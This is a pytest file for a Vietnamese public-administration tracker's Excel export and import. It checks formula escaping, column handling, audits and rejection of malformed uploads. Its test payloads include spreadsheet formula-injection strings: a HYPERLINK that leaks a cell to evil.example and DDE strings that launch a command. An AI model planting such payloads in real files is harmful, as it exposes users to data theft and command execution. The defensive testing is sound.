"""Excel out and in: real .xlsx files written, read back with openpyxl, and imported through the engine."""

import io
from datetime import date, datetime

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select, update

from lib.core.filters import Filters
from lib.core.roles import PermissionDenied
from lib.data import accounts, followup, queries
from lib.data.db import transaction
from lib.data.models import AuditEvent, Locality, Task, User
from lib.editing import actions, changeset, discussion, requests
from lib.files import export, importer
from lib.ops.seed import DEMO_TODAY, seed_demo

KEY = "the server's cookie key " * 2  # signs each exported row's "Mã kiểm tra"
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
)


def read_back(data: bytes):
    return load_workbook(io.BytesIO(data)).worksheets[0]


def test_formula_payloads_come_out_as_literal_text_and_numbers_stay_numbers():
    rows = [
        {"id": i + 1, "title": p, "days_overdue": -2 if i == 0 else i, "notes": p}
        for i, p in enumerate(PAYLOADS)
    ]
    data = export.workbook_bytes([export.Sheet("Danh sách", "Thử", DEMO_TODAY, export.TASK_LAYOUT, rows)])
    ws = read_back(data)
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
    by_header = {c.value: c.column for c in ws[export.HEADER_ROW]}
    for i, payload in enumerate(PAYLOADS):
        line = export.FIRST_DATA_ROW + i
        title = ws.cell(line, by_header["Nhiệm vụ"])
        assert (title.value, title.data_type, title.quotePrefix) == (payload, "s", True)
        assert ws.cell(line, by_header["Ghi chú"]).value == payload
    days = ws.cell(export.FIRST_DATA_ROW, by_header["Số ngày quá hạn"])
    assert (days.value, days.data_type) == (-2, "n")  # a negative number is still a number


def test_even_a_heading_that_looks_like_a_formula_is_text():
    data = export.workbook_bytes([export.Sheet("Thử", "=SUM(A1:A9)", DEMO_TODAY, export.TASK_LAYOUT, [])])
    cell = read_back(data).cell(1, 1)
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("=SUM(A1:A9)", "s", True)


def test_the_sheet_has_vietnamese_headers_real_dates_and_number_formats():
    row = {
        "id": 7,
        "title": "Bố trí quỹ đất",
        "current_deadline": date(2026, 12, 15),
        "updated_at": datetime(2026, 11, 20, 8, 30),
        "progress_pct": 40,
    }
    data = export.workbook_bytes(
        [export.Sheet("Nhiệm vụ", "Danh sách", DEMO_TODAY, export.TASK_LAYOUT, [row])]
    )
    ws = read_back(data)
    assert ws.cell(2, 1).value == "Số liệu tính đến ngày 29/11/2026"
    headers = [c.value for c in ws[export.HEADER_ROW]]
    assert headers[:3] == ["Mã", "Mục", "Nhiệm vụ"] and "Khó khăn, vướng mắc" in headers
    deadline = ws.cell(export.FIRST_DATA_ROW, headers.index("Hạn hiện tại") + 1)
    assert deadline.is_date and deadline.value.date() == date(2026, 12, 15)
    assert deadline.number_format == "dd/mm/yyyy"
    money = export.workbook_bytes(
        [export.Sheet("Trụ sở", "x", DEMO_TODAY, export.HQ_LAYOUT, [{"planned_vnd": 4_500_000_000}])]
    )
    cell = read_back(money).cell(export.FIRST_DATA_ROW, 10)
    assert (cell.value, cell.data_type, cell.number_format) == (4_500_000_000, "n", "#,##0")


# --- import ----------------------------------------------------------------------------------------


@pytest.fixture
def demo(engine):
    with transaction(engine, write=True) as s:
        seed_demo(s, history=False)
    return engine


def actor(engine, username):
    with transaction(engine) as s:
        return accounts.actor_for(s.scalar(select(User).where(User.username == username)))


def exported(engine, locality="viet-yen") -> bytes:
    """What a coordinator downloads from the task page: every task of the locality."""
    with transaction(engine) as s:
        rows = queries.list_tasks(s, Filters(localities=(locality,)), DEMO_TODAY, 30, offset=0, limit=10_000)
    sheet = export.Sheet("Nhiệm vụ", "Danh sách", DEMO_TODAY, export.TASK_LAYOUT, export.task_rows(rows, KEY))
    return export.workbook_bytes([sheet])


def edit_file(data: bytes, edits_by_header: dict[tuple[int, str], object]) -> bytes:
    """Change cells of an exported file as a user would in a spreadsheet: (data row, header) → value."""
    book = load_workbook(io.BytesIO(data))
    ws = book.worksheets[0]
    headers = {c.value: c.column for c in ws[export.HEADER_ROW]}
    for (index, header), value in edits_by_header.items():
        cell = ws.cell(export.FIRST_DATA_ROW + index, headers[header])
        cell.value = value
        if isinstance(value, str):
            cell.data_type = "s"  # typed as text (in a spreadsheet: after an apostrophe)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def tasks(engine):
    with transaction(engine) as s:
        return [tuple(r) for r in s.execute(select(Task.__table__).order_by(Task.id))]


def preview_of(engine, who, data):
    parsed = importer.read_xlsx(data, changeset.TASKS, export.TASK_LAYOUT)
    with transaction(engine) as s:
        current = importer.load_current(s, who, changeset.TASKS, parsed)
    return importer.build_preview(changeset.TASKS, who, parsed, current, DEMO_TODAY, KEY)


def test_export_then_import_of_the_same_view_changes_nothing(demo):
    who = actor(demo, "dp.vietyen")
    preview = preview_of(demo, who, exported(demo))
    assert preview.rows == preview.unchanged_rows > 0
    assert preview.changes == [] and preview.problems == [] and preview.row_changes == []
    assert not preview.can_apply


FUNDING_TASK = "Bố trí kinh phí xây mới, cải tạo, sửa chữa trụ sở Công an phường"


def test_the_task_sheet_names_the_cooperating_agencies_and_the_documents(demo):
    ws = read_back(exported(demo))
    headers = [c.value for c in ws[export.HEADER_ROW]]
    at = {h: i + 1 for i, h in enumerate(headers)}
    assert headers.index("Cơ quan phối hợp") == headers.index("Chủ trì") + 1
    line = next(
        r
        for r in range(export.FIRST_DATA_ROW, ws.max_row + 1)
        if ws.cell(r, at["Nhiệm vụ"]).value == FUNDING_TASK
    )
    # Sở Kế hoạch và Đầu tư, its second cooperator, merged into Sở Tài chính on 1/3/2025 while it was open.
    assert ws.cell(line, at["Cơ quan phối hợp"]).value == "Sở Tài chính"
    # Two cooperators, in the letter's order; Công an tỉnh Bắc Giang's part passed to Công an tỉnh Bắc Ninh
    # with the task, finished after 1/7/2025.
    speed_up = next(
        r
        for r in range(export.FIRST_DATA_ROW, ws.max_row + 1)
        if str(ws.cell(r, at["Nhiệm vụ"]).value).startswith("Đẩy nhanh tiến độ xây dựng trụ sở")
    )
    assert ws.cell(speed_up, at["Cơ quan phối hợp"]).value == "Sở Xây dựng; Công an tỉnh Bắc Ninh"
    assert ws.cell(line, at["Văn bản giao"]).value == "Công văn /UBND-NC"
    assert ws.cell(line, at["Căn cứ"]).value == "30/ĐA-BCA; 885/QĐ-UBND"


def test_the_task_sheet_carries_the_waiting_request_and_the_direction_and_imports_back_unchanged(demo):
    with transaction(demo) as s:
        task_id = s.scalar(
            select(Task.id)
            .join(Locality, Locality.id == Task.locality_id)
            .where(Locality.code == "viet-yen", Task.state == "dang_thuc_hien")
            .order_by(Task.id)
            .limit(1)
        )
    now = datetime(2026, 11, 28, 9, 0)
    proposal = requests.Proposal(
        kind="gia_han", reason="Chờ bố trí vốn.", document="88/TTr-UBND", new_deadline="31/03/2027"
    )
    actions.perform(
        demo, actor(demo, "dp.vietyen"), requests.propose, task_id, proposal, now=now, today=DEMO_TODAY
    )
    actions.perform(
        demo,
        actor(demo, "lanhdao"),
        discussion.add,
        "task",
        task_id,
        "Xong trước 31/3.",
        "direction",
        now=now,
    )
    data = exported(demo)
    ws = read_back(data)
    headers = [c.value for c in ws[export.HEADER_ROW]]
    assert headers.index("Đôn đốc") == headers.index("Đề nghị") + 1 == headers.index("Chỉ đạo") - 1
    line = next(r for r in range(export.FIRST_DATA_ROW, ws.max_row + 1) if ws.cell(r, 1).value == task_id)
    cell = {h: ws.cell(line, i + 1).value for i, h in enumerate(headers)}
    assert cell["Đề nghị"] == "Chờ xác nhận: gia hạn đến 31/03/2027"
    assert cell["Chỉ đạo"].startswith("Xong trước 31/3. — ") and cell["Chỉ đạo"].endswith("28/11/2026")
    assert cell["Đôn đốc"] is None  # never named in a reminder letter
    preview = preview_of(demo, actor(demo, "dp.vietyen"), data)  # read-only columns: nothing to change
    assert preview.changes == [] and preview.problems == []


def test_the_cooperators_and_documents_columns_are_read_only_in_an_import(demo):
    who = actor(demo, "dp.vietyen")
    data = exported(demo)
    parsed = importer.read_xlsx(data, changeset.TASKS, export.TASK_LAYOUT)
    assert {"Cơ quan phối hợp", "Văn bản giao", "Căn cứ"} <= set(parsed.ignored_columns)
    assert not {"Cơ quan phối hợp", "Văn bản giao", "Căn cứ"} & set(parsed.imported_columns)
    # Typed over in the file, they change nothing; the notes typed beside them are imported.
    edited = edit_file(
        data,
        {(0, "Cơ quan phối hợp"): "Sở Nội vụ", (0, "Văn bản giao"): "1/QĐ", (0, "Ghi chú"): "Đã rà soát"},
    )
    preview = preview_of(demo, who, edited)
    assert [(c.field, c.new) for c in preview.changes] == [("notes", "Đã rà soát")]
    assert preview.problems == [] and preview.can_apply
    # A file exported before these columns existed still imports.
    book = load_workbook(io.BytesIO(edited))
    ws = book.worksheets[0]
    for header in ("Văn bản giao", "Căn cứ", "Cơ quan phối hợp"):
        ws.delete_cols([c.value for c in ws[export.HEADER_ROW]].index(header) + 1)
    older = io.BytesIO()
    book.save(older)
    preview = preview_of(demo, who, older.getvalue())
    assert [(c.field, c.new) for c in preview.changes] == [("notes", "Đã rà soát")]
    assert preview.problems == [] and preview.can_apply


def test_a_few_cells_edited_in_the_file_become_exactly_those_changes_audited(demo):
    who = actor(demo, "dp.vietyen")
    data = exported(demo)
    ws = read_back(data)
    headers = {c.value: c.column for c in ws[export.HEADER_ROW]}
    ids = [
        ws.cell(export.FIRST_DATA_ROW + i, headers["Mã"]).value for i in range(ws.max_row - export.HEADER_ROW)
    ]
    states = [ws.cell(export.FIRST_DATA_ROW + i, headers["Trạng thái"]).value for i in range(len(ids))]
    running = states.index("Đang thực hiện")  # a task whose progress may move
    other = 0 if running else 1
    first_id, second_id = sorted((ids[other], ids[running]))
    changed = edit_file(
        data,
        {
            (other, "Ghi chú"): "=Đã họp với UBND xã",  # a text that looks like a formula stays text
            (running, "Tiến độ (%)"): 77,
            (running, "Mục"): "read-only column: ignored",
        },
    )
    expected = {(ids[other], "notes", "=Đã họp với UBND xã"), (ids[running], "progress_pct", 77)}
    before = {t[0]: t for t in tasks(demo)}
    preview = preview_of(demo, who, changed)
    assert {(c.row_id, c.field, c.new) for c in preview.changes} == expected
    assert len(preview.changes) == 2
    assert preview.problems == [] and preview.can_apply
    last = _last_event_id(demo)
    actions.perform(
        demo,
        who,
        changeset.apply_changes,
        changeset.TASKS,
        preview.row_changes,
        now=datetime(2026, 11, 29, 10, 0),
        today=DEMO_TODAY,
        action="import",
        reason="Nhập từ tệp thử",
    )
    after = {t[0]: t for t in tasks(demo)}
    assert {i for i in after if after[i] != before[i]} == {first_id, second_id}
    with transaction(demo) as s:
        trail = list(s.scalars(select(AuditEvent).where(AuditEvent.id > last).order_by(AuditEvent.id)))
    assert {(e.action, e.row_id, e.field) for e in trail} == {("import", i, f) for i, f, _ in expected}
    assert len(trail) == 2
    assert all(e.actor == "dp.vietyen" and e.reason == "Nhập từ tệp thử" for e in trail)


def _last_event_id(engine) -> int:
    with transaction(engine) as s:
        return int(s.scalar(select(func.coalesce(func.max(AuditEvent.id), 0))))


def test_invalid_cells_are_named_by_their_excel_address(demo):
    who = actor(demo, "dp.vietyen")
    data = exported(demo)
    changed = edit_file(data, {(0, "Tiến độ (%)"): 150, (2, "Ngày hoàn thành"): "31/02/2026"})
    preview = preview_of(demo, who, changed)
    texts = [str(p) for p in preview.problems]
    column = {h: i for i, h in enumerate((c.header for c in export.TASK_LAYOUT), start=1)}
    from openpyxl.utils import get_column_letter

    progress_cell = f"{get_column_letter(column['Tiến độ (%)'])}{export.FIRST_DATA_ROW}"
    done_cell = f"{get_column_letter(column['Ngày hoàn thành'])}{export.FIRST_DATA_ROW + 2}"
    assert any(t.startswith(f"Ô {progress_cell} ") and "0–100%" in t for t in texts), texts
    assert any(t.startswith(f"Ô {done_cell} ") and "31/02/2026" in t for t in texts), texts
    assert not preview.can_apply


def test_a_row_changed_since_the_export_is_held_back(demo):
    who = actor(demo, "dp.vietyen")
    data = exported(demo)
    first_id = read_back(data).cell(export.FIRST_DATA_ROW, 1).value
    with transaction(demo) as s:
        version = s.get(Task, first_id).version
    actions.perform(
        demo,
        actor(demo, "vanphong"),
        changeset.apply_changes,
        changeset.TASKS,
        [changeset.RowChange(first_id, version, {"notes": "Văn phòng sửa trước"})],
        now=datetime(2026, 11, 29, 9, 0),
        today=DEMO_TODAY,
    )
    preview = preview_of(demo, who, edit_file(data, {(0, "Ghi chú"): "Bản của tôi"}))
    assert preview.stale == [(export.FIRST_DATA_ROW, first_id, version, version + 1)]
    assert not preview.can_apply


def _workbook(rows: list[list[object]]) -> bytes:
    book = Workbook()
    ws = book.active
    for r in rows:
        ws.append(r)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


HEADERS = ["Mã", "Ghi chú", "Phiên bản", "Mã kiểm tra"]


def _malformed(engine) -> dict[str, tuple[bytes, str]]:
    with transaction(engine) as s:
        own = s.scalar(select(Task.id).where(Task.locality_id.is_not(None)).order_by(Task.id))
    formula = Workbook()
    ws = formula.active
    ws.append(HEADERS)
    ws.append([own, "=1+1", 1, "x"])
    formula_bytes = io.BytesIO()
    formula.save(formula_bytes)
    return {
        "not an xlsx": (b"Ma,Ghi chu\n1,x\n", "không phải bảng tính Excel"),
        "a zip that is not a workbook": (
            _zip_of({"hello.txt": b"x"}),
            "Tệp có thành phần không thuộc một bảng cập nhật nhiệm vụ: “hello.txt”",
        ),
        "a formula in a data cell": (formula_bytes.getvalue(), "Ô B2 chứa công thức"),
        "10,000 rows": (
            _workbook([HEADERS, *[[i, "x", 1, "x"] for i in range(1, 10_001)]]),
            "quá nhiều dòng (tối đa 5.000 dòng dữ liệu)",
        ),
        # a spreadsheet cell holds 32.767 characters: openpyxl writes the first 32.767 of the 1 MB
        "1 MB in one cell": (
            _workbook([HEADERS, [own, "x" * 1_000_000, 1, "x"]]),
            "Ô B2 dài 32.767 ký tự, tối đa 5.000",
        ),
        "wrong columns": (_workbook([["Mã", "Tên", "Phiên bản"], [own, "x", 1]]), "cột không nhận ra: “Tên”"),
        "no id column": (_workbook([["Ghi chú"], ["x"]]), "Không tìm thấy dòng tiêu đề"),
        "a text id": (_workbook([HEADERS, ["abc", "x", 1, "x"]]), "“abc” không phải mã dòng"),
        "an id past the column": (_workbook([HEADERS, [10**20, "x", 1, "x"]]), "không phải mã dòng"),
        "broken XML inside": (
            _with_text(_workbook([HEADERS, [own, "x", 1, "x"]]), "<cellXfs", "<cellXfs <<"),
            "Phần “xl/styles.xml” của tệp không phải XML hợp lệ",
        ),
        "a fractional version": (_workbook([HEADERS, [own, "x", 1.5, "x"]]), "không phải số phiên bản"),
        "the same row twice": (
            _workbook([HEADERS, [own, "x", 1, "x"], [own, "y", 1, "x"]]),
            "xuất hiện hai lần",
        ),
        "a file exported before rows were signed": (
            _workbook([HEADERS[:3], [own, "x", 1]]),
            "Tệp thiếu cột “Mã kiểm tra”",
        ),
    }


def _with_text(data: bytes, marker: str, text: str) -> bytes:
    """Put a text into the file's XML directly (openpyxl itself would cut it at 32.767 characters)."""
    import zipfile

    source, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            target.writestr(item, source.read(item.filename).replace(marker.encode(), text.encode()))
    return out.getvalue()


def _zip_of(files: dict[str, bytes]) -> bytes:
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, content in files.items():
            z.writestr(name, content)
    return out.getvalue()


def test_malformed_uploads_are_refused_cleanly_and_change_nothing(demo):
    who = actor(demo, "vanphong")
    before, events = tasks(demo), _last_event_id(demo)
    for name, (data, message) in _malformed(demo).items():
        with pytest.raises(importer.ImportRefused) as caught:
            preview_of(demo, who, data)
        assert message in caught.value.message, (name, caught.value.message)
    assert tasks(demo) == before and _last_event_id(demo) == events


def test_an_oversized_upload_is_refused_before_it_is_read(demo):
    with pytest.raises(importer.ImportRefused, match="tối đa 5 MB"):
        importer.read_xlsx(
            b"PK\x03\x04" + b"\0" * importer.MAX_FILE_BYTES, changeset.TASKS, export.TASK_LAYOUT
        )


def test_a_row_of_another_locality_refuses_a_coordinators_file(demo):
    mine = exported(demo, "viet-yen")
    theirs = read_back(exported(demo, "bac-giang"))
    book = load_workbook(io.BytesIO(mine))
    ws = book.worksheets[0]
    ws.append([c.value for c in theirs[export.FIRST_DATA_ROW]])  # one Bắc Giang row slipped in
    out = io.BytesIO()
    book.save(out)
    before = tasks(demo)
    with pytest.raises(PermissionDenied, match="không thuộc phạm vi bạn phụ trách"):
        preview_of(demo, actor(demo, "dp.vietyen"), out.getvalue())
    assert tasks(demo) == before


# --- stored text XML cannot hold ------------------------------------------------------------------

XML_BREAKERS = "\uffff\ufffe\x07"  # what once made openpyxl refuse to write any file


def test_every_file_builds_even_when_stored_text_holds_what_xml_cannot(demo):
    """Old rows (or a path that skipped validation) must not break the exports for everyone."""
    from docx import Document

    from lib.core.filters import HqFilters
    from lib.data.models import HqProject, ModelWard
    from lib.files import report
    from lib.ui import loaders

    with transaction(demo, write=True) as s:
        s.execute(update(Task).values(title=Task.title + XML_BREAKERS, notes="Đã họp" + XML_BREAKERS))
        s.execute(update(HqProject).values(notes="Chờ đất" + XML_BREAKERS))
        s.execute(update(ModelWard).values(recognised_decision="12/QĐ" + XML_BREAKERS))
    url = demo.url.render_as_string(hide_password=False)
    everyone = Filters()
    with transaction(demo) as s:
        yearly = followup.yearly_reports(s, everyone, DEMO_TODAY)
        year_end = report.build_report(s, None, DEMO_TODAY, 90)
    try:
        files = {
            "tasks": loaders.export_tasks(url, everyone, DEMO_TODAY, 30, "Danh sách"),
            **{
                k: loaders.export_followup(url, k, everyone, DEMO_TODAY, 30)
                for k in loaders.FOLLOWUP_HEADINGS
            },
            "hq": loaders.export_hq(url, HqFilters(), DEMO_TODAY, 90),
            "wards": loaders.export_wards(url, (), DEMO_TODAY),
            "yearly": export.yearly_reports_xlsx(yearly, DEMO_TODAY),
            "report.xlsx": report.report_xlsx(year_end),
        }
    finally:
        loaders.get_engine(url).dispose()  # the app's cached engine: close its connections now
    for name, data in files.items():
        texts = [c.value for ws in load_workbook(io.BytesIO(data)) for row in ws.iter_rows() for c in row]
        strings = [t for t in texts if isinstance(t, str)]
        assert not any(ch in t for t in strings for ch in XML_BREAKERS), name
        if name not in ("yearly", "report.xlsx"):  # those two show no free text of a row
            assert any("\ufffd\ufffd\ufffd" in t for t in strings), name
    docx = Document(io.BytesIO(report.report_docx(year_end)))
    lines = [p.text for t in docx.tables for row in t.rows for c in row.cells for p in c.paragraphs]
    assert any(t.endswith("\ufffd\ufffd\ufffd") for t in lines)  # overdue task titles, cleaned
